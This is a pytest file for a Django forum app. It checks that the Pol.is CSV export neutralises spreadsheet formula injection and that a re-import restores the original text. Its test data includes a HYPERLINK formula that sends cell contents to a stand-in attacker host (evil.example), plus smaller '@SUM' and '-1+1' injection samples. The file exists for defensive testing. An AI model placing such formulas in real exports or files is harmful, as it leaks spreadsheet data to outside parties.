"""The Pol.is export is safe to open in a spreadsheet (CSV formula injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

from tests.factories import UserFactory
from tests.forum.factories import make_conversation
from whatworks.forum.models import Conversation
from whatworks.forum.services.polis import conversation_export
from whatworks.forum.services.statements import statement_add
from whatworks.forum.services.votes import vote_cast

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.django_db
def test_participants_text_reaches_no_spreadsheet_as_a_formula(tmp_path: Path) -> None:
    conversation = make_conversation(
        question="-1+1 is what a careless question could look like?",
        background="@SUM(A1:A9) in the description",
        moderation="after",
    )
    statement = statement_add(actor=UserFactory.create(), conversation=conversation, text=FORMULA)
    vote_cast(actor=UserFactory.create(), conversation=conversation, statement=statement, value=-1)
    conversation_export(actor=None, conversation=conversation, directory=tmp_path / "out")
    for path in (tmp_path / "out").glob("*.csv"):
        for row in _cells(path):
            for cell in row:
                if cell.startswith(("=", "+", "@", "\t", "\r")) or (
                    cell.startswith("-") and not cell.lstrip("-").isdigit()
                ):
                    pytest.fail(f"{path.name}: a live formula {cell!r}")
    comments = _cells(tmp_path / "out" / "comments.csv")
    assert [row[7] for row in comments if row[7].startswith("'")] == ["'" + FORMULA]
    summary = dict(row[:2] for row in _cells(tmp_path / "out" / "summary.csv"))
    assert summary["topic"].startswith("'-1+1")
    assert summary["conversation-description"].startswith("'@SUM")
    votes = _cells(tmp_path / "out" / "votes.csv")
    assert votes[1][-1] == "-1", "numbers stay numbers"
    # our own export imports back to the text as written
    call_command("forum_import", str(tmp_path / "out"), conversation="again", stdout=io.StringIO())
    again = Conversation.objects.get(slug="again")
    assert again.statements.filter(text=FORMULA).exists()
